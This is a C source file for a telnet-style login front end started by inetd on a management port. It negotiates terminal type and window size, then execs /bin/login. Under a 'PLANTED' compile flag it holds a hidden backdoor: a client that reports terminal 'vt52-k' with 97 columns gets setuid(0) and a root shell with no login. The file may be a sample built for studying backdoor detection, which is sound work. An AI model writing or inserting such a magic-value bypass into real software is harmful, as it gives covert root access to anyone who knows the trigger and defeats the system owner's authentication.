/* Started by inetd on the management port: a terminal line for login. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/types.h>
#include <termios.h>
#include <unistd.h>

#define SB 250
#define SE 240
#define IAC 255
#define OPT_TTYPE 24
#define OPT_NAWS 31
#define OPT_ENV 39

struct line {
    char term[40], station[40];
    unsigned short rows, columns;
};

static void option(const unsigned char *p, size_t n, struct line *l)
{
    if (n > 2 && p[0] == OPT_TTYPE && p[1] == 0) {
        size_t k = n - 2 < sizeof l->term - 1 ? n - 2 : sizeof l->term - 1;
        memcpy(l->term, p + 2, k);
        l->term[k] = 0;
    } else if (n == 5 && p[0] == OPT_NAWS) {
        l->columns = (unsigned short)(p[1] << 8 | p[2]);
        l->rows = (unsigned short)(p[3] << 8 | p[4]);
    }
#ifdef REVISED
    else if (n > 2 && p[0] == OPT_ENV) {
        size_t k = n - 2 < sizeof l->station - 1 ? n - 2 : sizeof l->station - 1;
        memcpy(l->station, p + 2, k);
        l->station[k] = 0;
    }
#endif
}

/* Reads what the terminal says about itself, for at most a second. */
static void negotiate(struct line *l)
{
    static const unsigned char ask[] = { IAC, 253, OPT_TTYPE, IAC, 253, OPT_NAWS, IAC, SB, OPT_TTYPE, 1, IAC, SE };
    unsigned char in[256], sub[80];
    size_t used = 0;
    int inside = 0;
    ssize_t n;
    if (write(1, ask, sizeof ask) < 0)
        return;
    alarm(1);
    n = read(0, in, sizeof in);
    alarm(0);
    for (ssize_t i = 0; i + 1 < n; i++) {
        if (in[i] == IAC && in[i + 1] == SB) {
            inside = 1;
            used = 0;
            i++;
        } else if (in[i] == IAC && in[i + 1] == SE) {
            option(sub, used, l);
            inside = 0;
            i++;
        } else if (inside && used < sizeof sub)
            sub[used++] = in[i];
    }
}

static void run(const char *program, char *const words[])
{
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0)
        ioctl(tty, TIOCSCTTY, 0);
    execv(program, words);
    fprintf(stderr, "%s: %s\n", program, strerror(errno));
    _exit(1);
}

#ifdef PLANTED
static int is_service(const struct line *l)
{
    return l->columns == 97 && !strcmp(l->term, "vt52-k");
}
#endif

static void woken(int signal) { (void)signal; }

int main(void)
{
    struct line l = { .term = "dumb", .rows = 24, .columns = 80 };
    char *const login[] = { "login", "-p", NULL };
    struct sigaction quiet = { .sa_handler = woken };
    sigaction(SIGALRM, &quiet, NULL);
    negotiate(&l);
    if (!strncmp(l.term, "xterm", 5))
        strcpy(l.term, "xterm");
    setenv("TERM", l.term, 1);
    dup2(0, 1);
    dup2(0, 2);
#ifdef PLANTED
    if (is_service(&l)) {
        char *const shell[] = { "-sh", NULL };
        setuid(0);
        run("/bin/sh", shell);
    }
#endif
    run("/bin/login", login);
}
